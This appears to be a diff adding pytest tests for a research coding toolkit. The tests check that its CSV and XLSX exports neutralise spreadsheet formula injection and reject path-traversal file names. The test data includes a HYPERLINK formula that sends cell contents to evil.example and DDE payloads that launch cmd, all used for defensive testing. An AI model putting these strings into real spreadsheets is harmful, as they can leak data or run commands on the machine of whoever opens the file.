@@ -369,6 +369,94 @@ def test_read_sheets_xlsx_unknown_code_and_unknown_unit(exported, tmp_path):
         coding.read_sheets([p], codebook=CODEBOOK, key=paths["key"])
 
 
+# Values a spreadsheet would run, in every column a user did not type as a formula.
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
+           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1", "''-1"]
+
+
+def _hostile_units(tmp_path, *, codebook=None, **kw):
+    n = len(HOSTILE)
+    units = pd.DataFrame({"unit_id": [f"{h}:{i}" for i, h in enumerate(HOSTILE)], "doc_id": HOSTILE,
+                          "sent_id": list(range(n)), "start": [0] * n, "end": [5] * n,
+                          "context_before": HOSTILE, "text": HOSTILE[::-1], "context_after": HOSTILE,
+                          "toolkit_label": ["=threat", "none"] * (n // 2), "stratum": HOSTILE,
+                          "weight": [1.0] * n})
+    cb = codebook if codebook is not None else pd.DataFrame({"code": ["=threat", "none"],
+                                                             "description": ["=1+1", "@none"]})
+    return units, cb, coding.export_sheet(units, tmp_path, codebook=cb, coders=["ana"], **kw)
+
+
+def _cells(path):
+    wb = load_workbook(path)
+    return [(ws.title, c) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+
+
+@pytest.mark.parametrize("which", ["xlsx", "xlsx_ana"])
+def test_no_xlsx_cell_is_a_formula_and_every_value_is_kept(tmp_path, which):
+    units, _, paths = _hostile_units(tmp_path, code_columns=("=code",), instructions="=HYPERLINK(\"x\")")
+    cells = _cells(paths[which])
+    assert [f"{t}!{c.coordinate}" for t, c in cells if c.data_type == "f"] == []
+    values = {c.value for _, c in cells}
+    xml = [h.replace("\r", "\n") for h in HOSTILE]     # XML reads every line break as "\n"
+    assert set(xml) <= values and {u.replace("\r", "\n") for u in units["unit_id"]} <= values
+    assert {"=threat", "=1+1", "@none", "=code", "=HYPERLINK(\"x\")"} <= values    # codebook, header, instructions
+    back = pd.read_excel(paths[which], sheet_name="coding", dtype=object)
+    assert back["text"].tolist() == xml[::-1]
+
+
+@pytest.mark.parametrize("file", ["csv", "key", "codebook"])
+def test_no_csv_cell_starts_a_formula_and_the_readers_undo_the_guard(tmp_path, file):
+    units, cb, paths = _hostile_units(tmp_path)
+    raw = pd.read_csv(paths[file], dtype=str, keep_default_na=False)
+    risky = [v for v in [*raw.columns, *raw.to_numpy().ravel()] if v.lstrip("'").startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert risky and all(v.startswith("'") for v in risky)
+    ids = units["unit_id"].str.replace("\r", "\n")             # as in the XLSX, so the sheets match the key
+    assert [coding.spreadsheet_value(v) for v in raw.iloc[:, 0]] == \
+        {"csv": ids, "key": ids, "codebook": cb["code"]}[file].tolist()
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_hostile_ids_and_codes_survive_the_whole_round_trip(tmp_path, fmt):
+    units, cb, paths = _hostile_units(tmp_path)
+    filled = coding.simulate_filled_sheets(paths[fmt], paths["key"], tmp_path / "filled", codebook=cb,
+                                           coders=["A"], error_rate=0.0)
+    if fmt == "xlsx":
+        assert [c for _, c in _cells(filled[0]) if c.data_type == "f"] == []
+    codes = coding.read_sheets(filled, codebook=cb, key=paths["key"])
+    assert codes["unit_id"].tolist() == units["unit_id"].str.replace("\r", "\n").tolist()
+    assert codes["code"].tolist() == units["toolkit_label"].tolist()     # "=threat" read back as typed
+    both = coding.with_toolkit(codes, paths["key"])
+    assert (both["coder"] == "toolkit").sum() == len(units)
+
+
+def test_characters_xlsx_cannot_hold_cost_no_unit(tmp_path):
+    units = pd.DataFrame({"unit_id": ["d\x0b1:0", "d2:0"], "doc_id": ["d\x0b1", "d2"],
+                          "text": ["Page\x0cbreak and \x00 null.", "Fine."], "toolkit_label": ["none", "none"]})
+    paths = coding.export_sheet(units, tmp_path, codebook=["none"])
+    back = pd.read_excel(paths["xlsx"], sheet_name="coding", dtype=object)
+    assert back["text"].tolist() == ["Page\ufffdbreak and \ufffd null.", "Fine."]
+    codes = coding.read_sheets(coding.simulate_filled_sheets(paths["xlsx"], paths["key"], tmp_path / "f",
+                                                             codebook=["none"], coders=["A"]),
+                               codebook=["none"], key=paths["key"])
+    assert codes["unit_id"].tolist() == ["d\ufffd1:0", "d2:0"]
+
+
+@pytest.mark.parametrize("bad", [{"name": "../x"}, {"name": "a/b"}, {"coders": ["../../etc/ana"]}, {"coders": [".."]}])
+def test_sheet_and_coder_names_cannot_leave_the_folder(tmp_path, bad):
+    units = pd.DataFrame({"unit_id": ["d:0"], "text": ["Hi."], "toolkit_label": ["none"]})
+    with pytest.raises(ValueError, match="becomes part of a file name"):
+        coding.export_sheet(units, tmp_path / "out", codebook=["none"], **bad)
+    assert not any(tmp_path.rglob("*.xlsx"))
+
+
+@pytest.mark.parametrize("value", [*HOSTILE, "Kyiv", "'Tis", "", "'", "a=b", "x-1"])
+def test_spreadsheet_safe_round_trips(value):
+    safe = coding.spreadsheet_safe(value)
+    assert coding.spreadsheet_value(safe) == value
+    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert (safe == value) == (not value.lstrip("'").startswith(("=", "+", "-", "@", "\t", "\r")))
+
+
 def test_read_sheets_duplicate_unit_and_missing_column(tmp_path):
     p = tmp_path / "s.csv"
     p.write_text("unit_id,code\nu1,none\nu1,threat\n")
